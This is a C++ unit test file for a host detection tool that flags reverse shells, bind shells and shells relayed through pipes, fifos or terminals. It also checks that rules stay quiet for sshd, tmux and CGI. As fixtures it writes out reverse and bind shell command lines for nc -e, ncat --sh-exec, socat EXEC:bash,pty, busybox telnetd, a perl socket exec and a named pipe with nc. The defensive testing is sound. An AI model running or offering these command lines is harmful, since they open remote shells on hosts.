@@ -1,0 +1,596 @@
+// Shells and interpreters on the wire: each rule fires, and what is known to look alike does not.
+
+#include <catch2/catch.hpp>
+
+#include "tests/unit/rules/rule_scene.h"
+
+namespace sockwitness {
+
+using schema::DescriptorKind;
+using schema::Protocol;
+using test::RuleScene;
+
+namespace {
+
+constexpr const char* kHere = "10.0.0.5 51234";
+constexpr const char* kThere = "198.51.100.7 443";
+
+// The standard descriptors of a process lead to one connection.
+schema::SocketIndex connect_standard(RuleScene& scene,
+                                     schema::ProcessIndex process,
+                                     Protocol protocol = Protocol::Tcp) {
+  const auto socket = scene.connect(process, 0, kHere, kThere, protocol);
+  scene.hold(socket, process, 1);
+  scene.hold(socket, process, 2);
+  return socket;
+}
+
+}  // namespace
+
+TEST_CASE("shell-on-network: standard descriptors are a connection") {
+  RuleScene scene;
+  SECTION("a reverse shell") {
+    connect_standard(scene, scene.run("/usr/bin/bash", {"bash", "-i"}));
+    CHECK(scene.told("shell-on-network") == "critical bash(100)");
+    CHECK(scene.why("shell-on-network") == "it obeys what comes from there");
+  }
+  SECTION("over UDP, one descriptor only") {
+    scene.connect(scene.run("/usr/bin/dash"), 2, kHere, kThere, Protocol::Udp);
+    CHECK(scene.told("shell-on-network") == "critical dash(100)");
+  }
+  SECTION("a command, not bare") {
+    connect_standard(scene, scene.run("/usr/bin/bash", {"bash", "-c", "id"}));
+    CHECK(scene.told("shell-on-network") == "critical bash(100)");
+  }
+  SECTION("an applet of busybox") {
+    connect_standard(scene, scene.run("/usr/bin/busybox", {"sh"}));
+    CHECK(scene.told("shell-on-network") == "critical busybox(100)");
+  }
+  SECTION("busybox as something else") {
+    connect_standard(scene, scene.run("/usr/bin/busybox", {"busybox", "httpd"}));
+    CHECK(scene.told("shell-on-network").empty());
+  }
+  SECTION("a renamed copy of a shell that runs here") {
+    scene.run("/usr/bin/bash");
+    const auto copy = scene.run_unowned("/tmp/crond");
+    scene.program(copy).sha256 = scene.snapshot.programs[1].sha256;
+    connect_standard(scene, copy);
+    CHECK(scene.told("shell-on-network") == "critical crond(101)");
+  }
+  SECTION("a renamed copy of a shell that an earlier snapshot saw") {
+    const auto copy = scene.run_unowned("/tmp/crond");
+    schema::Program shell;
+    shell.path = "/usr/bin/zsh5";
+    shell.sha256 = scene.program(copy).sha256;
+    scene.known_programs = {shell};
+    connect_standard(scene, copy);
+    CHECK(scene.told("shell-on-network") == "critical crond(100)");
+  }
+  SECTION("a listener, a terminal, a pipe are no connection") {
+    const auto shell = scene.run("/usr/bin/bash");
+    scene.listen(shell, 0, "0.0.0.0 80");
+    scene.pipe(shell, 1, 7);
+    scene.descriptor(shell, 2, DescriptorKind::Terminal, "/dev/pts/1");
+    CHECK(scene.told("shell-on-network").empty());
+  }
+  SECTION("other programs have connections there") {
+    connect_standard(scene, scene.run("/usr/bin/rsync"));
+    CHECK(scene.told("shell-on-network").empty());
+  }
+}
+
+TEST_CASE("shell-on-network: what a super server starts") {
+  RuleScene scene;
+  const auto inetd = scene.run("/usr/sbin/inetd");
+  scene.listen(inetd, 4, "0.0.0.0 7777");
+  const auto shell = scene.run(inetd, "/usr/bin/dash", {"sh", "/usr/local/bin/answer"});
+  scene.connect(shell, 0, "10.0.0.5 7777", "198.51.100.7 40000");
+  SECTION("a script is low") {
+    scene.give_script(shell, "/usr/local/bin/answer");
+    CHECK(scene.told("shell-on-network") == "low dash(101)");
+  }
+  SECTION("a bare shell is not") {
+    scene.at(shell).command_line = std::string("sh\0", 3);
+    CHECK(scene.told("shell-on-network") == "critical dash(101)");
+  }
+  SECTION("a script in a temporary place is not") {
+    scene.give_script(shell, "/tmp/answer");
+    CHECK(scene.told("shell-on-network") == "critical dash(101)");
+  }
+  SECTION("a super server that no package vouches for is none") {
+    scene.give_script(shell, "/usr/local/bin/answer");
+    scene.program(inetd).verdict = schema::PackageVerdict::NotOwned;
+    CHECK(scene.told("shell-on-network") == "critical dash(101)");
+  }
+  SECTION("neither is a relay") {
+    scene.give_script(shell, "/usr/local/bin/answer");
+    scene.program(inetd).path = "/usr/bin/socat";
+    CHECK(scene.told("shell-on-network") == "critical dash(101)");
+  }
+  SECTION("an instance of a systemd unit is served by pid 1, whose descriptors nobody could read") {
+    scene.give_script(shell, "/usr/local/bin/answer");
+    scene.snapshot.holders.erase(scene.snapshot.holders.begin());
+    scene.at(shell).parent = schema::Pid(1);
+    CHECK(scene.told("shell-on-network") == "critical dash(101)");
+    scene.give_unit(shell, "answer@3-10.0.0.5:7777-198.51.100.7:40000.service");
+    CHECK(scene.told("shell-on-network") == "low dash(101)");
+  }
+}
+
+TEST_CASE("program-on-network: interpreters and programs of no package") {
+  RuleScene scene;
+  SECTION("an interpreter") {
+    connect_standard(scene, scene.run("/usr/bin/python3.11", {"python3", "-c", "import socket"}));
+    CHECK(scene.told("program-on-network") == "high python3.11(100)");
+  }
+  SECTION("a program of no package") {
+    connect_standard(scene, scene.run_unowned("/usr/local/bin/agent"));
+    CHECK(scene.told("program-on-network") == "high agent(100)");
+  }
+  SECTION("a package's program, a shell (it has its own rule), a connection elsewhere") {
+    connect_standard(scene, scene.run("/usr/bin/rsync"));
+    connect_standard(scene, scene.run("/usr/bin/bash"));
+    scene.connect(scene.run("/usr/bin/perl"), 3, kHere, kThere);
+    CHECK(scene.told("program-on-network").empty());
+  }
+  SECTION("served by a super server") {
+    const auto inetd = scene.run("/usr/sbin/xinetd");
+    scene.listen(inetd, 4, "0.0.0.0 7777");
+    const auto served = scene.run(inetd, "/usr/bin/python3.11", {"python3", "/srv/answer.py"});
+    scene.give_script(served, "/srv/answer.py");
+    scene.connect(served, 0, "10.0.0.5 7777", "198.51.100.7 40000");
+    CHECK(scene.told("program-on-network") == "low python3.11(101)");
+  }
+}
+
+TEST_CASE("shell-behind-relay: pipes, fifos and socket pairs") {
+  RuleScene scene;
+  const auto node = scene.run("/usr/bin/node", {"node", "/opt/app.js"});
+  scene.connect(node, 20, kHere, kThere);
+  const auto shell = scene.run(node, "/usr/bin/dash", {"/bin/sh", "-i"});
+  SECTION("two pipes") {
+    scene.pipe(shell, 0, 1);
+    scene.pipe(node, 21, 1);
+    scene.pipe(shell, 1, 2);
+    scene.pipe(node, 22, 2);
+    CHECK(scene.told("shell-behind-relay") == "critical dash(101)");
+    CHECK(scene.why("shell-behind-relay") ==
+          "its input and output are joined with node(100) by pipe");
+    SECTION("a command is what servers start") {
+      scene.at(shell).command_line = std::string("/bin/sh\0-c\0id\0", 14);
+      CHECK(scene.told("shell-behind-relay").empty());
+    }
+    SECTION("a script likewise") {
+      scene.give_script(shell, "/opt/x.sh");
+      CHECK(scene.told("shell-behind-relay").empty());
+    }
+    SECTION("a command line that could not be read is no proof") {
+      scene.at(shell).command_line.reset();
+      CHECK(scene.told("shell-behind-relay").empty());
+    }
+    SECTION("a container engine outside the container") {
+      scene.at(shell).container = "4f1c";
+      CHECK(scene.told("shell-behind-relay") == "low dash(101)");
+    }
+  }
+  SECTION("socket pairs") {
+    for (int fd = 0; fd < 3; ++fd) {
+      scene.socket_pair(shell, fd, node, 30 + fd);
+    }
+    CHECK(scene.told("shell-behind-relay") == "critical dash(101)");
+  }
+  SECTION("a login server is what people log in through") {
+    const auto sshd = scene.run("/usr/sbin/sshd", {"sshd: alice@notty"});
+    scene.connect(sshd, 4, "10.0.0.5 22", "198.51.100.7 40000");
+    const auto remote = scene.run(sshd, "/usr/bin/bash", {"bash", "-s"});
+    for (const auto process : {sshd, remote}) {
+      scene.pipe(process, process == sshd ? 10 : 0, 11);
+      scene.pipe(process, process == sshd ? 12 : 1, 13);
+    }
+    CHECK(scene.told("shell-behind-relay").empty());
+    scene.program(sshd).verdict = schema::PackageVerdict::NotOwned;
+    CHECK(scene.told("shell-behind-relay") == "critical bash(103)");
+    // Not readable: not known to be anything else.
+    scene.at(sshd).program.reset();
+    CHECK(scene.told("shell-behind-relay").empty());
+  }
+  SECTION("an upgraded sshd whose sessions still run the old file is genuine") {
+    const auto sshd = scene.run("/usr/sbin/sshd", {"sshd: alice@notty"});
+    scene.connect(sshd, 4, "10.0.0.5 22", "198.51.100.7 40000");
+    const auto remote = scene.run(sshd, "/usr/bin/bash", {"bash", "-s"});
+    scene.pipe(sshd, 10, 11);
+    scene.pipe(remote, 0, 11);
+    scene.pipe(sshd, 12, 13);
+    scene.pipe(remote, 1, 13);
+    scene.program(sshd).state = schema::FileState::Replaced;
+    scene.program(sshd).verdict = schema::PackageVerdict::Differs;
+    scene.snapshot.context.package_database_mtime_ns = test::kNoon.microseconds * 1000;
+    CHECK(scene.told("shell-behind-relay").empty());
+    // Replaced by somebody, and no package changed since it was started.
+    scene.snapshot.context.package_database_mtime_ns = 0;
+    CHECK(scene.told("shell-behind-relay") == "critical bash(103)");
+  }
+}
+
+TEST_CASE("shell-behind-relay: a named pipe, cat and nc") {
+  RuleScene scene;
+  const auto script = scene.run("/usr/bin/bash", {"bash", "/root/x.sh"});
+  scene.give_script(script, "/root/x.sh");
+  const auto cat = scene.run(script, "/usr/bin/cat", {"cat", "/tmp/f"});
+  const auto shell = scene.run(script, "/usr/bin/dash", {"sh", "-i"});
+  const auto nc = scene.run(script, "/usr/bin/nc.openbsd", {"nc", "198.51.100.7", "443"});
+  scene.connect(nc, 3, kHere, kThere);
+  scene.fifo(cat, 3, "/tmp/f");
+  scene.pipe(cat, 1, 1);
+  scene.pipe(shell, 0, 1);
+  scene.pipe(shell, 1, 2);
+  scene.pipe(nc, 0, 2);
+  scene.fifo(nc, 1, "/tmp/f");
+  CHECK(scene.told("shell-behind-relay") == "critical dash(102)");
+  CHECK(scene.told("fifo-relay") == "high nc.openbsd(103)");
+}
+
+TEST_CASE("shell-behind-relay: a shell that only reads") {
+  RuleScene scene;
+  const auto curl = scene.run("/usr/bin/curl", {"curl", "https://example.org"});
+  scene.connect(curl, 5, kHere, kThere);
+  const auto shell = scene.run("/usr/bin/bash", {"bash"});
+  scene.pipe(curl, 1, 1);
+  scene.pipe(shell, 0, 1);
+  CHECK(scene.told("shell-behind-relay") == "medium bash(101)");
+  scene.at(shell).tty = 34816;
+  CHECK(scene.told("shell-behind-relay") == "low bash(101)");
+}
+
+TEST_CASE("shell-on-remote-terminal: the other side of its terminal") {
+  RuleScene scene;
+  const auto shell = scene.run("/usr/bin/bash", {"bash"});
+  scene.terminal(shell, 3);
+  const auto hold_by = [&](schema::ProcessIndex process) { scene.master(process, 7, 3); };
+  SECTION("python's pty") {
+    const auto python = scene.run("/usr/bin/python3.11", {"python3", "-c", "import pty"});
+    scene.connect(python, 3, kHere, kThere);
+    hold_by(python);
+    CHECK(scene.told("shell-on-remote-terminal") == "critical bash(100)");
+  }
+  SECTION("socat") {
+    const auto socat = scene.run("/usr/bin/socat", {"socat", "TCP:x:1", "EXEC:bash,pty"});
+    scene.connect(socat, 5, kHere, kThere);
+    scene.give_unit(socat, "relay.service");
+    hold_by(socat);
+    CHECK(scene.told("shell-on-remote-terminal") == "critical bash(100)");
+  }
+  SECTION("login servers, multiplexers, sudo") {
+    const auto sshd = scene.run("/usr/sbin/sshd", {"sshd: alice@pts/3"});
+    scene.connect(sshd, 4, "10.0.0.5 22", "198.51.100.7 40000");
+    hold_by(sshd);
+    CHECK(scene.told("shell-on-remote-terminal").empty());
+    scene.snapshot.descriptors.pop_back();
+    hold_by(scene.run("/usr/bin/tmux"));
+    CHECK(scene.told("shell-on-remote-terminal").empty());
+  }
+  SECTION("a terminal emulator on a forwarded display") {
+    const auto xterm = scene.run("/usr/bin/xterm");
+    scene.connect(xterm, 3, "127.0.0.1 50000", "127.0.0.1 6010");
+    hold_by(xterm);
+    CHECK(scene.told("shell-on-remote-terminal") == "low bash(100)");
+  }
+  SECTION("web terminals") {
+    const auto ttyd = scene.run("/usr/bin/ttyd");
+    scene.listen(ttyd, 3, "0.0.0.0 7681");
+    hold_by(ttyd);
+    CHECK(scene.told("shell-on-remote-terminal") == "medium bash(100)");
+    scene.program(ttyd).verdict = schema::PackageVerdict::NotOwned;
+    CHECK(scene.told("shell-on-remote-terminal") == "critical bash(100)");
+    scene.give_unit(ttyd, "ttyd.service");
+    CHECK(scene.told("shell-on-remote-terminal") == "medium bash(100)");
+  }
+  SECTION("an editor's server in a home, on loopback") {
+    const auto node = scene.run_unowned("/home/alice/.vscode-server/bin/node");
+    scene.listen(node, 3, "127.0.0.1 40000");
+    scene.connect(node, 4, "127.0.0.1 40000", "127.0.0.1 40001");
+    hold_by(node);
+    CHECK(scene.told("shell-on-remote-terminal") == "medium bash(100)");
+  }
+  SECTION("the terminal of the same number in a container is another one") {
+    const auto python = scene.run("/usr/bin/python3.11", {"python3", "/opt/a.py"});
+    scene.connect(python, 3, kHere, kThere);
+    hold_by(python);
+    scene.at(python).mount_namespace = schema::Inode(99);
+    const auto inside = scene.run("/usr/bin/dash", {"sh"});
+    scene.terminal(inside, 3);
+    scene.at(inside).mount_namespace = schema::Inode(99);
+    for (auto& descriptor : scene.snapshot.descriptors) {
+      if (descriptor.process == inside) {
+        descriptor.device = schema::Device(77);
+      }
+    }
+    CHECK(scene.told("shell-on-remote-terminal") == "critical dash(102)");
+  }
+}
+
+TEST_CASE("inline-code-on-network") {
+  RuleScene scene;
+  struct Row {
+    const char* path;
+    const char* option;
+    const char* code;
+    const char* told;
+  };
+  const Row row = GENERATE(values<Row>({
+      {"/usr/bin/perl", "-e", "use Socket; exec('/bin/sh -i')", "high perl(100)"},
+      {"/usr/bin/python3.11", "-c", "import socket,subprocess", "high python3.11(100)"},
+      {"/usr/bin/python3.11", "-c", "import socket; socket.socket()", "medium python3.11(100)"},
+      {"/usr/bin/php8.2", "-r", "$s=fsockopen('x',1);", "medium php8.2(100)"},
+      {"/usr/bin/gawk", "{ s = \"/inet/tcp/0/x/1\"; s |& getline }", "", "high gawk(100)"},
+      {"/usr/bin/ruby3.1", "-e", "puts 1", "low ruby3.1(100)"},
+      {"/usr/bin/python3.11",
+       "-c",
+       "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5)",
+       ""},
+  }));
+  CAPTURE(row.code);
+  const auto process = scene.run(row.path, {row.path, row.option, row.code});
+  const auto socket = scene.connect(process, 3, kHere, kThere);
+  CHECK(scene.told("inline-code-on-network") == row.told);
+  SECTION("without a socket of its own it is nothing") {
+    scene.snapshot.holders.clear();
+    CHECK(scene.told("inline-code-on-network").empty());
+  }
+  SECTION("an inherited socket is not its own") {
+    scene.at(process).parent = scene.at(scene.run("/usr/sbin/server")).pid;
+    scene.hold(socket, schema::ProcessIndex(2), 3);
+    scene.at(schema::ProcessIndex(2)).start = scene.at(process).start;
+    CHECK(scene.told("inline-code-on-network").empty());
+  }
+  SECTION("health checks are younger than two seconds") {
+    scene.at(process).start = scene.snapshot.begin.since_boot;
+    CHECK(scene.told("inline-code-on-network").empty());
+  }
+}
+
+TEST_CASE("code-from-input") {
+  RuleScene scene;
+  const auto perl = scene.run("/usr/bin/perl", {"perl"});
+  scene.connect(perl, 3, kHere, kThere);
+  scene.pipe(perl, 0, 1);
+  CHECK(scene.told("code-from-input") == "medium perl(100)");
+  SECTION("a prompt") {
+    scene.snapshot.descriptors.clear();
+    scene.terminal(perl, 1);
+    CHECK(scene.told("code-from-input") == "low perl(100)");
+  }
+  SECTION("a script") {
+    scene.give_script(perl, "/srv/a.pl");
+    CHECK(scene.told("code-from-input").empty());
+  }
+  SECTION("a title hides how it was called") {
+    scene.at(perl).command_line = std::string("worker: idle\0", 13);
+    CHECK(scene.told("code-from-input").empty());
+  }
+  SECTION("php-cgi is told its scripts") {
+    scene.program(perl).path = "/usr/bin/php-cgi8.2";
+    scene.at(perl).command_line = std::string("php-cgi\0", 8);
+    CHECK(scene.told("code-from-input").empty());
+  }
+}
+
+TEST_CASE("shell-holds-connection") {
+  RuleScene scene;
+  const auto shell = scene.run("/usr/bin/bash", {"bash", "/root/x.sh"});
+  const auto socket = scene.connect(shell, 5, kHere, kThere);
+  CHECK(scene.told("shell-holds-connection") == "high bash(100)");
+  SECTION("inherited from a server that is still there") {
+    const auto server = scene.run("/usr/lib/postgresql/15/bin/postgres");
+    scene.hold(socket, server, 9);
+    scene.at(shell).parent = scene.at(server).pid;
+    scene.at(server).start = schema::BootTime{1};
+    CHECK(scene.told("shell-holds-connection").empty());
+  }
+  SECTION("a loop that waits for a port") {
+    scene.at(socket).state = schema::SocketState::SynSent;
+    CHECK(scene.told("shell-holds-connection").empty());
+  }
+  SECTION("its standard input is the same: another rule's") {
+    scene.hold(socket, shell, 0);
+    CHECK(scene.told("shell-holds-connection").empty());
+  }
+}
+
+TEST_CASE("shell-holds-listener") {
+  RuleScene scene;
+  const auto shell = scene.run("/usr/bin/bash", {"bash"});
+  scene.listen(shell, 3, "0.0.0.0 4444");
+  CHECK(scene.told("shell-holds-listener") == "high bash(100)");
+  scene.give_unit(shell, "on-demand.service");
+  CHECK(scene.told("shell-holds-listener") == "high bash(100)");
+  scene.give_script(shell, "/usr/local/bin/on-demand");
+  CHECK(scene.told("shell-holds-listener") == "low bash(100)");
+}
+
+TEST_CASE("hands-out-shell: by arguments") {
+  RuleScene scene;
+  struct Row {
+    const char* path;
+    std::initializer_list<std::string_view> arguments;
+    bool listens;
+    const char* told;
+  };
+  const Row rows[] = {
+      {"/usr/bin/nc.traditional",
+       {"nc", "-lp", "4444", "-e", "/bin/sh"},
+       true,
+       "critical nc.traditional(100)"},
+      {"/usr/bin/nc.traditional",
+       {"nc", "-e/bin/bash", "x", "1"},
+       false,
+       "critical nc.traditional(100)"},
+      {"/usr/bin/ncat", {"ncat", "-lke", "/bin/bash", "4444"}, true, "critical ncat(100)"},
+      {"/usr/bin/ncat", {"ncat", "--sh-exec", "bash -i", "x", "1"}, false, "critical ncat(100)"},
+      {"/usr/bin/ncat", {"ncat", "--exec=/bin/sh", "x", "1"}, false, "critical ncat(100)"},
+      {"/usr/bin/ncat", {"ncat", "-l", "1", "-e", "/usr/bin/date"}, true, "high ncat(100)"},
+      {"/usr/bin/ncat", {"ncat", "-l", "1"}, true, ""},
+      {"/usr/bin/busybox",
+       {"busybox", "nc", "-lp", "1", "-e", "sh"},
+       true,
+       "critical busybox(100)"},
+      {"/usr/bin/busybox",
+       {"busybox", "telnetd", "-p", "1", "-l", "/bin/sh"},
+       true,
+       "critical busybox(100)"},
+      {"/usr/sbin/telnetd", {"in.telnetd", "-L", "/bin/sh"}, false, "critical telnetd(100)"},
+      {"/usr/sbin/telnetd", {"in.telnetd"}, false, ""},
+      {"/usr/bin/socat",
+       {"socat", "TCP-LISTEN:1,fork", "EXEC:/bin/bash,pty,stderr"},
+       true,
+       "critical socat(100)"},
+      {"/usr/bin/socat", {"socat", "TCP:x:1", "system:\"bash -i\""}, false, "critical socat(100)"},
+      {"/usr/bin/socat", {"socat", "TCP-LISTEN:1", "EXEC:/usr/bin/date"}, true, "high socat(100)"},
+      {"/usr/bin/socat", {"socat", "TCP-LISTEN:1", "TCP:10.0.0.1:1"}, true, ""},
+      {"/usr/bin/tcpserver", {"tcpserver", "0", "4444", "/bin/sh"}, true, "high tcpserver(100)"},
+      {"/usr/bin/ssh", {"ssh", "host", "/bin/bash"}, false, ""},
+      {"/usr/bin/kubectl", {"kubectl", "exec", "-it", "pod", "--", "/bin/bash"}, false, ""},
+      {"/usr/bin/xterm", {"xterm", "-e", "/bin/bash"}, false, ""},
+      {"/usr/bin/python3.11", {"python3", "/srv/a.py", "bash"}, true, ""},
+      {"/usr/sbin/nginx", {"nginx", "-c", "/etc/nginx/nginx.conf"}, true, ""},
+  };
+  for (const Row& row : rows) {
+    RuleScene each;
+    const auto process = each.run(row.path, row.arguments);
+    if (row.listens) {
+      each.listen(process, 3, "0.0.0.0 4444");
+    } else {
+      each.connect(process, 3, kHere, kThere);
+    }
+    CAPTURE(row.path, *each.at(process).command_line);
+    CHECK(each.told("hands-out-shell") == row.told);
+  }
+  SECTION("a renamed netcat of no package") {
+    const auto copy = scene.run_unowned("/tmp/x", {"x", "-e", "/bin/sh", "host", "1"});
+    scene.connect(copy, 3, kHere, kThere);
+    CHECK(scene.told("hands-out-shell") == "critical x(100)");
+  }
+  SECTION("a web terminal of a package in its unit") {
+    const auto ttyd = scene.run("/usr/bin/ttyd", {"ttyd", "-p", "80", "bash"});
+    scene.listen(ttyd, 3, "0.0.0.0 80");
+    CHECK(scene.told("hands-out-shell") == "high ttyd(100)");
+    scene.give_unit(ttyd, "ttyd.service");
+    CHECK(scene.told("hands-out-shell") == "medium ttyd(100)");
+  }
+}
+
+TEST_CASE("shell-below-server") {
+  RuleScene scene;
+  const auto nginx = scene.run("/usr/sbin/nginx", {"nginx: worker"});
+  scene.listen(nginx, 6, "0.0.0.0 80");
+  const auto shell = scene.run(nginx, "/usr/bin/dash", {"sh"});
+  SECTION("bare, fed by a pipe") {
+    scene.pipe(shell, 0, 1);
+    CHECK(scene.told("shell-below-server") == "critical dash(101)");
+    CHECK(scene.why("shell-below-server") == "it obeys its input: pipe; nginx(100) listens");
+  }
+  SECTION("bare, fed by nothing") {
+    scene.descriptor(shell, 0, DescriptorKind::Null, "/dev/null");
+    CHECK(scene.told("shell-below-server") == "medium dash(101)");
+  }
+  SECTION("a connection of its own, three generations down") {
+    scene.at(shell).command_line = std::string("sh\0-c\0x\0", 8);
+    const auto python = scene.run(shell, "/usr/bin/python3.11", {"python3", "/tmp/x.py"});
+    const auto deep = scene.run(python, "/usr/bin/bash", {"bash", "-c", "y"});
+    scene.connect(deep, 0, kHere, kThere);
+    CHECK(scene.told("shell-below-server") == "critical bash(103), low dash(101)");
+  }
+  SECTION("CGI, piped logs: a script or a command without a connection") {
+    scene.give_script(shell, "/usr/lib/cgi-bin/x.sh");
+    CHECK(scene.told("shell-below-server") == "low dash(101)");
+  }
+  SECTION("a script that holds the connection that its server accepted") {
+    scene.give_script(shell, "/usr/local/bin/answer");
+    scene.connect(shell, 0, "10.0.0.5 80", "198.51.100.7 40000");
+    CHECK(scene.told("shell-below-server") == "low dash(101)");
+  }
+  SECTION("people log in") {
+    const auto sshd = scene.run("/usr/sbin/sshd", {"sshd"});
+    scene.listen(sshd, 3, "0.0.0.0 22");
+    const auto session = scene.run(sshd, "/usr/sbin/sshd", {"sshd: alice@pts/3"});
+    scene.run(session, "/usr/bin/bash", {"-bash"});
+    CHECK(scene.told("shell-below-server") == "medium dash(101)");
+  }
+  SECTION("pid 1 holds listeners for others, and a shell that is no child") {
+    scene.listen(schema::ProcessIndex(0), 30, "0.0.0.0 111");
+    scene.run("/usr/bin/bash", {"bash"});
+    CHECK(scene.told("shell-below-server") == "medium dash(101)");
+  }
+  SECTION("a terminal is shell-on-remote-terminal's") {
+    scene.terminal(shell, 2);
+    CHECK(scene.told("shell-below-server") == "low dash(101)");
+  }
+}
+
+TEST_CASE("fifo-relay") {
+  RuleScene scene;
+  const auto nc = scene.run("/usr/bin/nc.openbsd", {"nc", "x", "1"});
+  scene.connect(nc, 3, kHere, kThere);
+  scene.fifo(nc, 0, "/tmp/.f");
+  CHECK(scene.told("fifo-relay") == "high nc.openbsd(100)");
+  scene.give_unit(nc, "feed.service");
+  CHECK(scene.told("fifo-relay") == "low nc.openbsd(100)");
+  RuleScene quiet;
+  const auto other = quiet.run("/usr/sbin/daemon");
+  quiet.connect(other, 3, kHere, kThere);
+  quiet.fifo(other, 0, "/var/lib/daemon/control");
+  quiet.fifo(other, 5, "/tmp/other");
+  quiet.fifo(quiet.run("/usr/bin/cat"), 0, "/tmp/f");
+  CHECK(quiet.told("fifo-relay").empty());
+}
+
+TEST_CASE("tool-on-network") {
+  RuleScene scene;
+  const auto sleep = scene.run("/usr/bin/sleep");
+  scene.program(sleep).package = "coreutils";
+  const auto socket = scene.connect(sleep, 5, kHere, kThere);
+  CHECK(scene.told("tool-on-network") == "high sleep(100)");
+  SECTION("below the script that holds the connection") {
+    const auto script = scene.run("/usr/bin/bash", {"bash", "/usr/local/bin/answer"});
+    scene.hold(socket, script, 0);
+    scene.at(script).start = schema::BootTime{1};
+    scene.at(sleep).parent = scene.at(script).pid;
+    CHECK(scene.told("tool-on-network").empty());
+  }
+  SECTION("logger sends to syslog servers") {
+    scene.program(sleep).path = "/usr/bin/logger";
+    scene.program(sleep).package = "bsdutils";
+    CHECK(scene.told("tool-on-network").empty());
+  }
+  SECTION("a service of inetd") {
+    const auto inetd = scene.run("/usr/sbin/inetd");
+    scene.listen(inetd, 4, "0.0.0.0 51234");
+    scene.at(inetd).start = schema::BootTime{1};
+    scene.at(sleep).parent = scene.at(inetd).pid;
+    CHECK(scene.told("tool-on-network") == "low sleep(100)");
+  }
+}
+
+TEST_CASE("shell-behind-unix-socket") {
+  RuleScene scene;
+  const auto socat = scene.run("/usr/bin/socat", {"socat", "ABSTRACT-LISTEN:x", "EXEC:sh"});
+  scene.hold(scene.unix_socket(schema::SocketState::Listen, std::string("\0x", 2)), socat, 5);
+  const auto shell = scene.run(socat, "/usr/bin/dash", {"sh"});
+  scene.socket_pair(shell, 0, socat, 6);
+  scene.socket_pair(shell, 1, socat, 7);
+  CHECK(scene.told("shell-behind-unix-socket") == "high dash(101)");
+  SECTION("a socket of a service") {
+    scene.snapshot.sockets[0].name = "/run/relay.sock";
+    CHECK(scene.told("shell-behind-unix-socket").empty());
+  }
+  SECTION("an editor that a package vouches for") {
+    scene.program(socat).path = "/usr/bin/emacs-gtk";
+    CHECK(scene.told("shell-behind-unix-socket") == "low dash(101)");
+  }
+  SECTION("a container engine") {
+    scene.at(shell).container = "4f1c";
+    CHECK(scene.told("shell-behind-unix-socket") == "low dash(101)");
+  }
+}
+
+}  // namespace sockwitness
